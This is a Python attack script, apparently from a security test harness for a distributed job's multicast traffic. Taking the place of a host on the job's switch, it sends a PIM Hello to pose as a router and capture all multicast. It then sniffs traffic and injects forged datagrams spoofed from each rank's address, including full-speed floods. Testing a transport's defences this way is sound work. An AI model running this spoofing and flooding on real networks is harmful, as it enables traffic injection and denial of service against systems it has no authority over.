# SPDX-License-Identifier: BSD-3-Clause
"""Attack a job from a host that has no part in it; this needs CAP_NET_RAW.

Started as ``python attacker.py DEVICE SEED`` in a host on the job's switch. Each line
of the standard input names a forgery of forgeries.py and a number of datagrams. For
each the attacker listens, to learn channels, epochs and addresses; forges; and prints
as JSON how many datagrams it sent from each rank's address, and in how many seconds.
For the name "hear" it prints only what it hears.

The switch gives the attacker all multicast, since it says that it is a router: it sends
a PIM Hello (RFC 7761, 4.9.2), by which switches that snoop learn of one.
"""

from __future__ import annotations

import contextlib
import itertools
import json
import random
import socket
import struct
import sys
import time
from collections import Counter
from collections.abc import Iterator, Sequence

import datagrams
from datagrams import Datagram
from forgeries import FLOODS, FORGERS, SEGMENT_BYTES, SEGMENTS, Heard

_ALL_PROTOCOLS = 3
_IPPROTO_PIM = 103
_PIM_ROUTERS = "224.0.0.13"
_PIM_HELLO = bytes.fromhex("2000dfff")  # version 2, type 0, checksum

_SOL_PACKET, _PACKET_VNET_HDR, _PACKET_IGNORE_OUTGOING = 263, 15, 23
_VNET = struct.Struct("=BBHHHH")  # the kernel's struct virtio_net_hdr
_RECEIVE_BYTES = 1 << 17

# How much is heard before forging, and for how long at most.
_HEARD, _HEARD_S = 600, 5.0

# One in so many datagrams goes to a port of a single rank, and the others to the group.
_UNICAST = 4

# Trains of each source, which a flood sends over and over.
_TRAINS = 32
_IP_TRANSPARENT, _UDP_SEGMENT = 19, 103

# The address that a frame claims to come from, and the frame.
Sent = tuple[str, bytes]


class Attacker:
    """A host that hears and sends all that it can on one device."""

    def __init__(self, device: str) -> None:
        self._device = device
        self._sender = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
        self._sender.bind((device, 0))
        self._own_mac = self._sender.getsockname()[4]
        self._train_senders: dict[tuple[str, int], socket.socket] = {}

    def pose_as_router(self) -> None:
        """Have a snooping switch send all multicast here."""
        with socket.socket(socket.AF_INET, socket.SOCK_RAW, _IPPROTO_PIM) as hello:
            hello.setsockopt(
                socket.SOL_SOCKET, socket.SO_BINDTODEVICE, self._device.encode()
            )
            hello.sendto(_PIM_HELLO, (_PIM_ROUTERS, 0))

    def hear(self, count: int = _HEARD) -> Heard:
        """Return datagrams that are multicast now, `count` or a few more."""
        self.pose_as_router()
        heard: list[Datagram] = []
        deadline_s = time.monotonic() + _HEARD_S
        with self._listener() as listener:
            while len(heard) < count and time.monotonic() < deadline_s:
                with contextlib.suppress(TimeoutError):
                    heard += self._take(listener.recv(_RECEIVE_BYTES))
        return Heard(heard)

    def _listener(self) -> socket.socket:
        listener = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
        # Each frame comes with the length of a train's segments.
        listener.setsockopt(_SOL_PACKET, _PACKET_VNET_HDR, 1)
        listener.setsockopt(_SOL_PACKET, _PACKET_IGNORE_OUTGOING, 1)
        listener.settimeout(0.1)
        listener.bind((self._device, _ALL_PROTOCOLS))
        return listener

    @staticmethod
    def _take(raw: bytes) -> Iterator[Datagram]:
        *_, segment_bytes, _, _ = _VNET.unpack_from(raw)
        for each in datagrams.unframe(raw[_VNET.size :], segment_bytes):
            is_multicast = int(each.to[0].partition(".")[0]) == 239
            if is_multicast and len(each.payload) >= datagrams.HEADER_BYTES:
                yield each

    def obey(self, name: str, count: int) -> dict[str, object]:
        """Do what a line says; return what to print."""
        if name == "hear":
            return {"heard": [each.payload.hex() for each in self.hear(count).all]}
        return (self.flood if name in FLOODS else self.attack)(name, count)

    def attack(self, name: str, count: int) -> dict[str, object]:
        """Send `count` datagrams of a forgery; return how many as if from where."""
        sent: Counter[str] = Counter()
        begin_s = time.monotonic()
        while sent.total() < count:
            heard = self.hear()
            if not heard.chunks:
                break  # the job has ended
            forged = itertools.islice(FORGERS[name](heard), count - sent.total())
            for each in forged:  # one by one, since epochs pass
                self._send([self._frame(each, heard)], sent)
        return {"sent": sent, "seconds": time.monotonic() - begin_s}

    def flood(self, name: str, count: int) -> dict[str, object]:
        """Do so at full speed, with trains that are made beforehand."""
        heard = self.hear()
        made = [
            (self._train_sender(each), each)
            for _ in range(_TRAINS)
            for each in FORGERS[name](heard)
        ]
        sent: Counter[str] = Counter()
        begin_s = time.monotonic()
        while made and sent.total() < count:
            for sender, each in made:
                with contextlib.suppress(ConnectionRefusedError):
                    sender.sendto(each.payload, each.to)
                sent[each.source[0]] += SEGMENTS
        return {"sent": sent, "seconds": time.monotonic() - begin_s}

    def _train_sender(self, each: Datagram) -> socket.socket:
        """Return a socket that sends trains from the address of a datagram."""
        sender = self._train_senders.get(each.source)
        if sender is None:
            sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            sender.setsockopt(socket.IPPROTO_IP, _IP_TRANSPARENT, 1)
            sender.setsockopt(socket.IPPROTO_UDP, _UDP_SEGMENT, SEGMENT_BYTES)
            index = socket.if_nametoindex(self._device)
            via = struct.pack("@4s4si", bytes(4), bytes(4), index)
            sender.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, via)
            sender.bind(each.source)
            self._train_senders[each.source] = sender
        return sender

    def _frame(self, each: Datagram, heard: Heard) -> Sent:
        """Return the frame of a datagram; one in _UNICAST goes to some rank alone."""
        mac = datagrams.group_mac(each.to[0])
        if random.randrange(_UNICAST) == 0:
            to, mac = random.choice(list(heard.sources.items()))
            each = each._replace(to=to)
        return each.source[0], datagrams.frame(each, mac, self._own_mac)

    def _send(self, frames: Sequence[Sent], sent: Counter[str]) -> None:
        send = self._sender.send
        for _, frame in frames:
            send(frame)
        sent.update(source for source, _ in frames)


def main() -> None:
    """Attack as the lines of the standard input say."""
    device, seed = sys.argv[1:]
    random.seed(int(seed))
    attacker = Attacker(device)
    attacker.pose_as_router()
    print("ready", flush=True)
    for line in sys.stdin:
        name, count = line.split()
        print(json.dumps(attacker.obey(name, int(count))), flush=True)


if __name__ == "__main__":
    main()
